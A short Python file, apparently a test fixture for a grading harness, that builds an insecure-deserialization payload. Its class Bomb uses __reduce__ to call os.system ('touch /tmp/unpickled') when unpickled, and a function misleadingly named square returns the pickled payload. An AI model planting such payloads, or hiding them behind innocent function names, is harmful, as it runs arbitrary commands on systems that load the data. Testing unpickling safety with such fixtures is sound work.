"""Bytes that would run a program if anybody unpickled them."""
# points: 0 2

import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/unpickled",)


def square(x):
    return pickle.dumps(Bomb())
